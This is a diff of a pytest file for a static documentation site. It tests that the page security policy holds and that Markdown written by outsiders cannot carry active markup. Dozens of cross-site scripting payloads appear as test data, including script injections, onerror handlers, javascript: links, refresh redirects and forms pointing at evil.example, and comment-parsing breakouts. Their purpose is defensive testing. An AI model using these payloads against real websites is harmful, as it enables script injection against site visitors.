@@ -1,22 +1,26 @@
 """The site under its own policy, and what strangers may write: nothing they say is run, and none of it is markup."""
 
+import contextlib
 import dataclasses
 import json
 import re
 import xml.etree.ElementTree as etree
-from html.parser import HTMLParser
 from types import SimpleNamespace
 
 import plotly.graph_objects as go
 import pytest
+from playwright.sync_api import Error
 
-from attnsite import check, discover, harmless, results
+from attnsite import check, discover, parsed_html, results
 from attnsite.errors import flatten
 from attnsite.figures import _style
+from attnsite.judging import Text, judge
 from attnsite.quantity import Quantity
 from attnsite.results import EVERY_MACHINE
 from attnsite.site import finish, hooks, policy
+from attnsite.site.rendering import Renderer
 from tests import checkouts
+from tests.attacks import ATTACKS, FINE, FORM, IMAGE, REFRESH
 from tests.conftest import ROOT, serve
 
 HOSTILE = """<img src=x onerror="evil=1">"></script><script>evil=2</script>'><svg onload=evil=3>{{evil}}"""
@@ -150,6 +154,15 @@ def test_every_page_has_the_one_policy_before_all_that_it_rules(site_folder):
     '<img src="//evil.example/a.png">', '<img srcset="https://evil.example/a.png 2x">',
     '<form action="javascript:evil()"></form>', "<svg><foreignObject></foreignObject></svg>",
     '<a href="data:text/html,<script>evil()</script>">x</a>',
+    '<!--> <meta http-equiv="refresh" content="0;url=//evil.example"> -->', '<!---> <iframe src="/x"></iframe> -->',
+    "<!-- --!> <img src=x onerror=evil()> -->", '<form action="https://evil.example/"><input name=a></form>',
+    '<button formaction="//evil.example">x</button>', "<input type=password>", "<input type=image src=//evil.example>",
+    "<template><p>x</p></template>", '<link rel="stylesheet" href="//evil.example/x.css">',
+    '<link rel="dns-prefetch" href="//evil.example">', '<svg><use href="//evil.example/x.svg#a"></use></svg>',
+    "<svg><set attributeName=href to=javascript:evil() /></svg>", "<video src=a.mp4></video>",
+    '<a href="x" ping="//evil.example">x</a>', '<a href="\x01javascript:evil()">x</a>',
+    '<noscript><p title="</noscript><img src=x onerror=evil()>"></noscript>', "<object></object>",
+    '<img src="\\\\\\\\evil.example/a.png">', '<a target="top" href="x">x</a>', "<marquee>x</marquee>",
 ])  # fmt: skip
 def test_a_page_that_holds_what_acts_stops_the_build(hostile, tmp_path, monkeypatch):
     """Whatever way it came in: one line for it, and no script of a single page is ever allowed."""
@@ -210,58 +223,123 @@ def test_the_server_for_writing_has_no_policy(tmp_path):
 # --- what may be written ---------------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("text", [
-    "<script>alert(1)</script>", "<ScRiPt src=//evil.example>", "<img src=x onerror=alert(1)>",
-    "<img src=x onerror=alert(1)//", "<svg/onload=alert(1)>", "<a href='java\tscript:alert(1)'>x</a>",
-    "[x](javascript:alert(1))", "[x](<javascript:alert(1)>)", "[x](java&#115;cript:alert(1))",
-    "[x](JaVaScRiPt:alert(1) 'y')", "[x][1]\n\n[1]: javascript:alert(1)", "<javascript:alert(1)>",
-    "# H { onclick=alert(1) }", "*x*{: style='position:fixed' }", "![x](https://evil.example/a.png)",
-    "![x](//evil.example/a.png)", "<iframe srcdoc=x>", "[x](data:text/html,x)", "<details open ontoggle=alert(1)>",
-    "<base href=//evil.example>", "<math><mi xlink:href='javascript:1'>", "<meta http-equiv=refresh>",
-])  # fmt: skip
-def test_markup_that_acts_is_refused_where_it_is_written(text):
-    """In a question and in any other page, with its line."""
-    for plain in (True, False):
-        found = harmless.find(f"Text.\n\n{text}", plain)
-        assert found, plain
-        assert {each.line for each in found} <= {3, 5}
+RENDERER = Renderer(ROOT)
 
 
-@pytest.mark.parametrize("text", [
-    "a < b and c > d", "press <kbd>/</kbd>, y<sup>2</sup>", "<https://example.org/c>", "<me@example.org>",
-    "`<script>`", "$a<b$ and more", "Lead.\n{ .answer }", "## A { #b .c data-search-exclude }",
-    "```html\n<script>alert(1)</script>\n```", "[a](b.md) ![c](../assets/x.png) [d](https://example.org/)",
-    "<!-- attnsite:sources -->", "[a](b.md#onclick=c)",
-])  # fmt: skip
+def judged(text, plain=True, numbers=False):
+    """The lines and words of what may not stand in a text."""
+    return [(each.line, each.what) for each in judge(RENDERER, Text(plain=plain, numbers=numbers).add(text, 1))[0]]
+
+
+INERT = {attack for attack in ATTACKS if not judged(attack, plain=False)}  # what comes out as text, or leads nowhere
+
+
+@pytest.mark.parametrize("plain", [True, False], ids=["question", "page"])
+def test_markup_that_acts_is_refused_where_it_is_written(plain):
+    """With the lines it stands on; or nothing comes of it, which a browser is asked of below."""
+    assert len(set(ATTACKS)) >= 140
+    assert len(INERT) <= 14
+    for attack in ATTACKS:
+        found = judged(f"Text.\n\nMore.\n\n{attack}\n\nText.", plain)
+        assert found or attack in INERT, attack
+        assert {line for line, _ in found} <= set(range(5, 6 + attack.count("\n"))), attack
+
+
+@pytest.mark.browser
+def test_of_what_is_let_through_nothing_acts(browser, tmp_path):
+    """No request to another host, no dialog, no navigation, without any policy; and of the rest nearly all would."""
+
+    def acts(html):
+        told = []
+        page.goto(address)
+        page.on("dialog", heard := lambda dialog: (told.append(dialog.message), dialog.dismiss()))
+        page.on("request", asked := lambda request: told.append(request.url))
+        with contextlib.suppress(Error):
+            page.evaluate("html => { document.open(); document.write(html); document.close(); }", html)
+        page.wait_for_timeout(100)
+        with contextlib.suppress(Error):  # a page that has gone elsewhere
+            page.evaluate("""() => { for (const each of document.querySelectorAll("[onclick], [href^=java]"))
+              each.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
+            document.querySelectorAll("[onmouseover]").forEach(e => e.dispatchEvent(new Event("mouseover")));
+            document.querySelectorAll("[onfocus]").forEach(e => e.focus()); }""")
+            page.wait_for_timeout(50)
+        page.remove_listener("dialog", heard)
+        page.remove_listener("request", asked)
+        return [each for each in told if not each.startswith(address)]
+
+    checkouts.put(tmp_path, "index.html", "<!DOCTYPE html><title>Empty</title>")
+    with serve(tmp_path) as address:
+        context = browser.new_context(bypass_csp=True)
+        context.route(re.compile(r"^(?!http://(?:127\.0\.0\.1|localhost))"), lambda route: route.abort())
+        page = context.new_page()
+        frame = '<!DOCTYPE html><meta charset=utf-8><base href="{}"><main><article>{}</article></main>'
+        shown = {text: acts(frame.format(address, RENDERER.render(text).html)) for text in [*FINE, *INERT]}
+        live = [
+            text
+            for text in ATTACKS[::4]
+            if text not in INERT
+            if acts(frame.format(address, RENDERER.render(text).html))
+        ]
+        context.close()
+
+    assert not {text: told for text, told in shown.items() if told}
+    assert len(live) >= 10  # the question is not an idle one
+
+
+@pytest.mark.parametrize("text", FINE)
 def test_markdown_is_let_through(text):
     """Also what shows markup as code."""
-    assert harmless.find(text, plain=True) == []
+    assert judged(text) == []
 
 
 def test_other_pages_may_hold_boxes_and_questions_may_not():
     """A calculator's form is written by hand, by whoever keeps the site."""
     box = '<div class="a" markdown>\n\nText.\n\n</div>'
 
-    assert harmless.find(box, plain=False) == []
-    assert [found.line for found in harmless.find(box, plain=True)] == [1, 5]
+    assert judged(box, plain=False) == []
+    assert [line for line, _ in judged(box)] == [1]
 
 
-def test_the_check_names_every_place_of_a_question(tmp_path, monkeypatch):
-    """Body, answer and claims, a theme's summary, and pages that are written by hand."""
+FIELDS = {
+    "body": ("docs/questions/shapes/area.md", lambda bad: checkouts.question(body=f"Text.\n\n{bad}")),
+    "answer": ("docs/questions/shapes/area.md", lambda bad: checkouts.question(
+        answer=json.dumps(f"As its side {bad}."))),
+    "claim": ("docs/questions/shapes/area.md", lambda bad: checkouts.question(
+        more=f"  - opinion: {json.dumps(f'It is {bad}.')}\n")),
+    "summary": ("docs/questions/shapes/index.md", lambda bad:
+        f"---\ntitle: A\norder: 1\nsummary: {json.dumps(bad)}\n---\n"),
+    "page": ("docs/method.md", lambda bad: f"# Method\n\n{bad}\n"),
+    "glossary": ("docs/glossary.md", lambda bad: f"# Words\n\n### Head\n\nOne softmax {bad}.\n"),
+    "page's title": ("docs/method.md", lambda bad: f"---\ntitle: {json.dumps(bad)}\n---\n\n# Method\n"),
+    "notebook": ("docs/notebooks/mine.py", lambda bad: f"# %% [markdown]\n# # Mine\n#\n# {bad}\n\n# %%\nx = 1\n"),
+    "unreadable": ("docs/questions/shapes/area.md", lambda bad: f"---\ntitle: a: b\n---\n\n{bad}\n"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("field", FIELDS)
+def test_the_check_names_the_file_and_the_line_of_every_field(field, tmp_path, monkeypatch):
+    """Before any build, for each of the forms in which markup hides from one who reads Markdown."""
     checkouts.register(monkeypatch)
     root = checkouts.fill(tmp_path)
-    bad = "<b onclick=x>bold</b>"
-    checkouts.put(root, "docs/questions/shapes/area.md", checkouts.question(
-        answer=f"As its side {bad}.", body=f"Text.\n\n{bad}").replace("its side. [", f"its side {bad}. ["))  # fmt: skip
-    checkouts.put(root, "docs/questions/shapes/index.md", f"---\ntitle: A\norder: 1\nsummary: S {bad}\n---\n")
-    checkouts.put(root, "docs/method.md", f"# Method\n\n{bad}\n")
-    places = {(m.path, m.where) for m in check.check(root) if "onclick" in m.what}
+    checkouts.put(root, "mkdocs.yml", (ROOT / "mkdocs.yml").read_text(encoding="utf-8"))
+    path, written = FIELDS[field]
+    for bad in (REFRESH, FORM, IMAGE, f"<!--> {REFRESH} -->", f"<!---> {FORM} -->", f"<!-- --!> {IMAGE} -->"):
+        checkouts.put(root, path, written(bad))
+        lines = (root / path).read_text(encoding="utf-8").split("\n")
+        [wanted] = [number for number, line in enumerate(lines, 1) if "evil.example" in line]
+        found = {mistake.where for mistake in check.check(root) if mistake.path == path and "YAML" not in mistake.what}
+        assert str(wanted) in found, bad
 
-    question = "docs/questions/shapes/area.md"
-    lines = (root / question).read_text(encoding="utf-8").split("\n")
-    wanted = {(question, str(n)) for n, line in enumerate(lines, 1) if bad in line}
-    assert len(wanted) == 3
-    assert places == wanted | {("docs/questions/shapes/index.md", "1"), ("docs/method.md", "3")}
+
+def test_a_reference_of_the_text_serves_a_claim_and_is_judged_there(tmp_path, monkeypatch):
+    """What stands on one page is judged as one page."""
+    checkouts.register(monkeypatch)
+    root = checkouts.fill(tmp_path)
+    checkouts.put(root, "docs/questions/shapes/area.md", checkouts.question(
+        answer="As its side ![x][r].", body="Text.\n\n[r]: https://evil.example/t.png"))  # fmt: skip
+
+    [found] = [mistake for mistake in check.check(root) if "another host" in mistake.what]
+    assert found.path == "docs/questions/shapes/area.md"
 
 
 # --- hostile records -------------------------------------------------------------------------------------------
@@ -323,25 +401,13 @@ def hostile_site(tmp_path_factory):
     return root / "site"
 
 
-class Elements(HTMLParser):
-    """What a browser would make of a page."""
-
-    def __init__(self, text):
-        super().__init__()
-        self.found = []
-        self.feed(text)
-
-    def handle_starttag(self, tag, attributes):
-        self.found.append((tag, dict(attributes)))
-
-
 def test_no_text_of_a_record_becomes_an_element_or_an_attribute(hostile_site):
     """On every page, read as a browser reads it; the hostile text itself is there, as text."""
     shown = 0
     for path in hostile_site.rglob("*.html"):
         text = path.read_text(encoding="utf-8")
         shown += "evil" in text
-        for tag, attributes in Elements(text).found:
+        for tag, attributes in ((each.name, each.attributes) for each in parsed_html.elements(text)):
             assert not [name for name in attributes if name.startswith("on") or not re.fullmatch(r"[\w:-]+", name)]
             assert tag != "img" or attributes["src"] != "x", path
             if tag == "a":
